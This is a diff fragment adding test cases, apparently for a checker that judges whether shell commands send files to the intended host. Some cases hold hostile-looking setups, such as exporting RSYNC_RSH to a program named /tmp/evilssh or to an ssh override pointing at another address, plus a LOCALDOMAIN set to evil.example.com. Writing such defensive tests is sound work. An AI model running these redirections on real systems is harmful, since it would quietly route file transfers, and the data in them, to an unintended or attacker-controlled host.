@@ -321,6 +321,11 @@ EXPORTED_RESOLVER = [
     (["export NODE_ENV=production", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
     (["export LOCALDOMAIN=evil.example.com; unset LOCALDOMAIN", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
     (["LOCALDOMAIN=corp.example.com host devbox", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
+    # rsync's remote shell exported: routed when it routes (another program, -o HostName=), ordinary when plain ssh
+    (["export RSYNC_RSH='ssh -o HostName=203.0.113.9'", "ssh devbox true"], "rsync -a ./ devbox:/srv/", False),
+    (["export RSYNC_RSH=/tmp/evilssh", "ssh devbox true"], "rsync -a ./ devbox:/srv/", False),
+    (["export RSYNC_RSH='ssh -p 2222'", "ssh devbox true"], "rsync -a ./ devbox:/srv/", True),
+    (["export RSYNC_RSH=/tmp/evilssh", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
 ]
 
 
